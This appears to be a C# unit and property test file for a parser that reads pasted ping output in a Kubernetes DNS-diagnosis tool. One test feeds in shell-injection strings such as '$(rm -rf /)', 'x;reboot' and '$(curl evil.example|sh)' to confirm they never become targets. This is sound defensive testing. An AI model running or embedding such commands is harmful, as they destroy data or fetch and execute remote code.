using System.Net;
using DnsExpert.Contract;
using DnsExpert.Readers.Parsing;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;

namespace DnsExpert.Readers.Tests;

/// <summary><c>ping</c> as people paste it, iputils and busybox, captured here and from issue threads (tests/fixtures/ping).</summary>
public sealed class PingOutputTests
{
    private static string Fixture(string name) =>
        File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "..", "..", "..", "..", "fixtures", "ping", name));

    [Theory]
    [InlineData("local-iputils-loopback.txt", "127.0.0.1", ProbeOutcome.Answered, 3, 3)]
    [InlineData("local-busybox-loopback.txt", "127.0.0.1", ProbeOutcome.Answered, 3, 3)]
    [InlineData("local-iputils-timeout.txt", "10.9.9.3", ProbeOutcome.Timeout, 3, 0)]
    [InlineData("local-busybox-timeout.txt", "10.9.9.3", ProbeOutcome.Timeout, 3, 0)]
    [InlineData("local-iputils-host-unreachable.txt", "10.9.9.2", ProbeOutcome.Unreachable, 3, 0)]
    [InlineData("local-busybox-host-unreachable.txt", "10.9.9.2", ProbeOutcome.Timeout, 3, 0)]
    [InlineData("issue-coredns-3645-iputils-timeout.txt", "100.105.0.3", ProbeOutcome.Timeout, 12, 0)]
    [InlineData("issue-coredns-3645-iputils-answered.txt", "10.150.0.3", ProbeOutcome.Answered, 3, 3)]
    [InlineData("issue-kubernetes-the-hard-way-3-busybox-timeout.txt", "10.32.0.10", ProbeOutcome.Timeout, 5, 0)]
    [InlineData("issue-coredns-3099-busybox-answered.txt", "10.96.0.10", ProbeOutcome.Answered, 1, 1)]
    [InlineData("issue-kubevirt-9024-iputils-partial-loss.txt", "10.0.150.86", ProbeOutcome.Answered, 60, 2)]
    public void A_real_ping_is_read_as_one_probe_with_its_target_outcome_and_counts(string file, string target, ProbeOutcome outcome, int sent, int received)
    {
        var run = Assert.Single(PingOutput.Parse(Fixture(file)));

        var probe = Assert.IsType<ProbeArtifact>(run.Probe);
        Assert.Equal((ProbeKind.Ping, target, outcome, sent, received), (probe.Kind!.Value, probe.Target!, probe.Outcome!.Value, probe.Sent!.Value, probe.Received!.Value));
        Assert.Equal(PingProblem.None, run.Problem);
    }

    [Fact]
    public void Round_trip_average_is_the_latency_and_busybox_and_iputils_agree()
    {
        Assert.Equal(0.033, PingOutput.Parse(Fixture("local-iputils-loopback.txt"))[0].Probe!.LatencyMs);
        Assert.Equal(0.052, PingOutput.Parse(Fixture("local-busybox-loopback.txt"))[0].Probe!.LatencyMs);
        Assert.Null(PingOutput.Parse(Fixture("local-iputils-timeout.txt"))[0].Probe!.LatencyMs);
    }

    [Fact]
    public void Several_pings_pasted_together_are_several_runs_in_order()
    {
        var flannel = PingOutput.Parse(Fixture("issue-flannel-999-busybox.txt"));
        Assert.Equal([("10.244.1.0", ProbeOutcome.Timeout, 6), ("10.244.0.0", ProbeOutcome.Answered, 2)],
            flannel.Select(r => (r.Probe!.Target!, r.Probe.Outcome!.Value, r.Probe.Sent!.Value)));

        // BSD-style: "^C--- ADDR ping statistics ---" on one line, icmp_seq from 0.
        var bsd = PingOutput.Parse(Fixture("issue-kubernetes-7996-bsd-style.txt"));
        Assert.Equal([("172.16.37.7", ProbeOutcome.Timeout), ("172.16.81.4", ProbeOutcome.Answered)], bsd.Select(r => (r.Probe!.Target!, r.Probe.Outcome!.Value)));
    }

    [Fact]
    public void Destination_host_unreachable_without_statistics_is_unreachable_with_the_replies_it_counted()
    {
        var run = Assert.Single(PingOutput.Parse(Fixture("issue-canal-126-iputils-host-unreachable.txt")));

        Assert.Equal(ProbeOutcome.Unreachable, run.Probe!.Outcome);
        Assert.Equal("10.244.3.4", run.Probe.Target);
        Assert.Null(run.Probe.Sent);
        Assert.Contains("Destination Host Unreachable", run.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void No_route_from_the_pod_is_unreachable_and_its_address_comes_from_the_command()
    {
        var run = Assert.Single(PingOutput.Parse(Fixture("local-iputils-network-unreachable.txt"), "ping -c 2 10.200.0.1"));

        Assert.Equal(("10.200.0.1", ProbeOutcome.Unreachable), (run.Probe!.Target!, run.Probe.Outcome!.Value));
        Assert.Contains("Network is unreachable", run.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void An_echo_request_refused_by_a_firewall_rule_on_the_sending_side_is_unreachable()
    {
        var run = Assert.Single(PingOutput.Parse(Fixture("issue-runc-3713-iputils-sendmsg-not-permitted.txt") + "\n--- 10.0.0.1 ping statistics ---\n3 packets transmitted, 0 received, 100% packet loss, time 2040ms\n", "ping 10.0.0.1"));

        Assert.Equal(ProbeOutcome.Unreachable, run.Probe!.Outcome);
        Assert.Contains("firewall", run.Summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("local-iputils-no-cap-net-raw.txt")]
    [InlineData("local-busybox-no-cap-net-raw.txt")]
    [InlineData("issue-justmeandopensource-67-busybox-permission-denied.txt")]
    [InlineData("issue-toolbox-316-iputils-socket-not-permitted.txt")]
    public void Ping_without_cap_net_raw_gives_no_probe_and_says_it_is_not_a_network_failure(string file)
    {
        var run = Assert.Single(PingOutput.Parse(Fixture(file), "ping -c 3 10.244.189.2"));

        Assert.Null(run.Probe);
        Assert.Equal(PingProblem.NotPermitted, run.Problem);
        Assert.Contains("CAP_NET_RAW", run.Summary, StringComparison.Ordinal);
        Assert.Contains("says nothing about the network", run.Summary, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("local-iputils-name.txt")]
    [InlineData("local-busybox-name.txt")]
    public void A_name_ping_could_not_resolve_is_a_dns_failure_of_ping_and_no_probe(string file)
    {
        var run = Assert.Single(PingOutput.Parse(Fixture(file), "ping -c 1 no-such-host.invalid"));

        Assert.Null(run.Probe);
        Assert.Equal(PingProblem.NameNotResolved, run.Problem);
        Assert.Contains("DNS failure of ping itself", run.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void A_ping_cut_short_before_replies_or_statistics_gives_no_probe() =>
        Assert.Equal(PingProblem.Incomplete, Assert.Single(PingOutput.Parse("PING 10.0.0.1 (10.0.0.1) 56(84) bytes of data.\n")).Problem);

    [Theory]
    [InlineData("PING $(rm -rf /) (10.0.0.1) 56(84) bytes of data.\n--- x ping statistics ---\n3 packets transmitted, 0 received, 100% packet loss\n", "ping '$(rm -rf /)'")]
    [InlineData("PING x;reboot (x;reboot): 56 data bytes\n--- x ping statistics ---\n3 packets transmitted, 0 packets received, 100% packet loss\n", "ping x;reboot")]
    [InlineData("PING a`id` (`id`) 56(84) bytes of data.\n64 bytes from `id`: icmp_seq=1 ttl=63 time=0.1 ms\n", "ping -c 1 a`id`")]
    [InlineData("ping: $(curl evil.example|sh): Name or service not known\n", "ping $(curl evil.example|sh)")]
    [InlineData("PING fe80::1%$(id) (fe80::1%$(id)) 56 data bytes\n1 packets transmitted, 1 received, 0% packet loss\n", null)]
    public void A_name_with_shell_metacharacters_never_becomes_a_target(string text, string? command)
    {
        foreach (var run in PingOutput.Parse(text, command))
        {
            Assert.True(run.Probe?.Target is null || IPAddress.TryParse(run.Probe.Target, out _), run.Probe?.Target);
            Assert.DoesNotContain("$(", run.Summary, StringComparison.Ordinal);
            Assert.DoesNotContain("`", run.Summary, StringComparison.Ordinal);
            Assert.DoesNotContain(";reboot", run.Summary, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Pasted_busybox_ping_without_a_command_becomes_a_ping_probe_from_where_it_ran()
    {
        var request = new DiagnosisRequest
        {
            Snapshot = new Snapshot { Outputs = [new CommandOutput { From = "default/web-0", Text = Fixture("issue-coredns-3099-busybox-answered.txt") }] },
        };

        var (expanded, notes) = DnsExpert.Readers.Building.PastedOutputs.Expand(request);

        var probe = Assert.Single(expanded.Snapshot!.Probes!);
        Assert.Equal(("default/web-0", ProbeKind.Ping, "10.96.0.10", ProbeOutcome.Answered), (probe.From!, probe.Kind!.Value, probe.Target!, probe.Outcome!.Value));
        Assert.Equal("ping 10.96.0.10: answered (1 of 1 echo requests answered)", Assert.Single(notes).Detail);
    }

    [Property(MaxTest = 300)]
    public Property Never_throws_and_every_target_is_an_ip_address(string command) =>
        Prop.ForAll(
            Gen.Elements("PING ", "x (10.0.0.1)", "(", ")", "64 bytes from ", "10.0.0.7: icmp_seq=1 time=0.1 ms", "From 10.0.0.5 icmp_seq=1 Destination Host Unreachable",
                    "--- ping statistics ---", "3 packets transmitted, 1 received", ", +3 errors", "ping: ", "$(id)", "\n", " ", "::1", "%", "rtt min/avg/max/mdev = 1/2/3/4 ms")
                .ArrayOf().Select(parts => string.Concat(parts)).ToArbitrary(),
            text => PingOutput.Parse(text, command).All(r => r.Line >= 1 && (r.Probe is null) == (r.Problem != PingProblem.None)
                && (r.Probe?.Target is null || IPAddress.TryParse(r.Probe.Target, out _))));
}
